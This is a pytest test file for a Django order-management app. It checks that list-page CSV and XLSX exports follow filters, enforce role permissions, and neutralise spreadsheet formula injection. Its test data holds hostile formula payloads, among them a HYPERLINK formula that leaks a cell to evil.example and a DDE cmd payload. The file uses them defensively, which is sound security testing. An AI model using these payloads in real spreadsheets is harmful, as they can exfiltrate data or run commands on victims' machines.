"""Every list page exports CSV and XLSX, filtered as the page is, with formulas neutralised."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from omslink.masters.schemas import ItemIn
from omslink.masters.services import items_create
from omslink.spreadsheets.exports import safe_cell
from tests.conftest import ApiClient, Masters

MakeUser = Callable[..., tuple[Any, str]]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
]


def signed_in(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def clients(make_user: MakeUser) -> dict[str, Client]:
    return {
        role: signed_in(make_user(role)[0]) for role in ("Administrator", "Warehouse", "Viewer")
    }


def csv_rows(answer: Any) -> list[list[str]]:
    assert answer.streaming, "a CSV export streams"
    text = b"".join(answer.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff"), "the BOM tells Excel the file is UTF-8"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def xlsx_rows(answer: Any) -> list[list[Any]]:
    content = b"".join(answer.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def hostile_items(masters: Masters) -> list[str]:
    items_create(
        items=[
            ItemIn(sku=f"EVIL-{index}", name=name, hsn_code="6109", gst_rate="5", mrp="1.00")
            for index, name in enumerate(HOSTILE)
        ]
    )
    return HOSTILE


def test_formula_injection_is_neutralised_in_csv(
    hostile_items: list[str], clients: dict[str, Client]
) -> None:
    answer = clients["Viewer"].get("/masters/items/?export=csv")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="items-')
    rows = csv_rows(answer)
    assert rows[0] == ["sku", "name", "hsn_code", "gst_rate", "mrp", "bin", "barcode"]
    names = {row[0]: row[1] for row in rows[1:]}
    assert [names[f"EVIL-{index}"] for index in range(len(HOSTILE))] == [
        "'" + name for name in HOSTILE
    ]
    assert names["TEE-RED-M"] == "Tee red M"


def test_formula_injection_is_neutralised_in_xlsx(
    hostile_items: list[str], clients: dict[str, Client]
) -> None:
    answer = clients["Viewer"].get("/masters/items/?export=xlsx")
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = xlsx_rows(answer)
    names = {row[0].value: row[1] for row in rows[1:]}
    for index, name in enumerate(HOSTILE):
        cell = names[f"EVIL-{index}"]
        assert (cell.value, cell.data_type) == ("'" + name, "s"), "text, never a formula"
    tee = next(row for row in rows if row[0].value == "TEE-RED-M")
    assert (tee[3].value, tee[3].data_type, tee[4].value) == (5, "n", 499), "numbers as numbers"


@pytest.mark.parametrize("text", ["\tcmd", "\rcmd", "=1", "+1", "-1", "@A1"])
def test_every_formula_start_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("plain =1") == "plain =1"
    assert safe_cell(-5) == -5, "numbers stay numbers"


def test_orders_export_follows_the_page_filters(
    stocked: Masters, push: Any, api: ApiClient, clients: dict[str, Client]
) -> None:
    kept = push([("TEE-RED-M", 2)])
    cancelled = push([("CAP-GRY", 1)])
    assert api.post(f"/orders/{cancelled}/cancel", {"reason": "test"}).status == 200
    everything = csv_rows(clients["Warehouse"].get("/orders/?export=csv"))
    assert everything[0][:5] == [
        "order",
        "external_order_id",
        "marketplace",
        "marketplace_order_id",
        "status",
    ]
    assert {row[0] for row in everything[1:]} == {kept, cancelled}
    rows = csv_rows(clients["Warehouse"].get("/orders/?status=cancelled&site=WH1&export=csv"))
    assert [(row[0], row[4], row[5], row[7]) for row in rows[1:]] == [
        (cancelled, "cancelled", "WH1", "1")
    ]
    xlsx = xlsx_rows(clients["Viewer"].get("/orders/?status=reserved&export=xlsx"))
    assert [(row[0].value, row[7].value) for row in xlsx[1:]] == [(kept, 2)]


def test_stock_wholesale_and_deliveries_export(
    stocked: Masters, push: Any, clients: dict[str, Client]
) -> None:
    push([("TEE-RED-M", 2)])
    stock = csv_rows(clients["Warehouse"].get("/stock/?site=WH1&sku=TEE-RED-M&export=csv"))
    assert stock[0] == ["site", "sku", "on_hand", "reserved", "allocated", "available"]
    assert stock[1][:4] == ["WH1", "TEE-RED-M", stock[1][2], "2"]
    assert int(stock[1][5]) == int(stock[1][2]) - 2
    every = xlsx_rows(clients["Viewer"].get("/stock/?export=xlsx"))
    assert len(every) == 1 + 3 * len(stocked.items)
    wholesale = csv_rows(clients["Viewer"].get("/wholesale/?export=csv"))
    assert wholesale[0] == [
        "order",
        "customer",
        "site",
        "status",
        "units",
        "created_by",
        "created_at",
    ]
    deliveries = csv_rows(clients["Viewer"].get("/webhooks/deliveries/?export=csv"))
    assert deliveries[0][:3] == ["delivery", "event_id", "type"]
    assert "order.reserved" in {row[2] for row in deliveries[1:]}


EXPORTS = [
    "/orders/",
    "/stock/",
    "/wholesale/",
    "/returns/",
    "/webhooks/deliveries/",
    "/masters/items/",
    "/masters/customers/",
    "/masters/sites/",
    "/masters/org-units/",
]
VIEW_OF = {
    "/orders/": "orders",
    "/stock/": "stock",
    "/wholesale/": "wholesale",
    "/returns/": "returns",
    "/webhooks/deliveries/": "webhooks",
    "/masters/items/": "masters",
    "/masters/customers/": "masters",
    "/masters/sites/": "masters",
    "/masters/org-units/": "masters",
}
ALLOWED = {
    "Administrator": {"orders", "stock", "wholesale", "returns", "webhooks", "masters"},
    "Warehouse": {"orders", "stock", "wholesale", "returns"},
    "Viewer": {"orders", "stock", "wholesale", "returns", "webhooks", "masters"},
}


@pytest.mark.parametrize("path", EXPORTS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_need_the_lists_view_operation(
    masters: Masters, clients: dict[str, Client], path: str, fmt: str
) -> None:
    for role, client in clients.items():
        answer = client.get(f"{path}?export={fmt}")
        expected = 200 if VIEW_OF[path] in ALLOWED[role] else 403
        assert answer.status_code == expected, (role, path)
        if expected == 200:
            assert answer["Content-Disposition"].startswith("attachment;")
    assert Client().get(f"{path}?export={fmt}").status_code == 302, "signed out: to the login"


def test_the_list_pages_link_their_exports(masters: Masters, clients: dict[str, Client]) -> None:
    html = clients["Viewer"].get("/orders/?status=cancelled").content.decode()
    assert 'href="/orders/?status=cancelled&amp;export=csv"' in html
    assert 'href="/orders/?status=cancelled&amp;export=xlsx"' in html
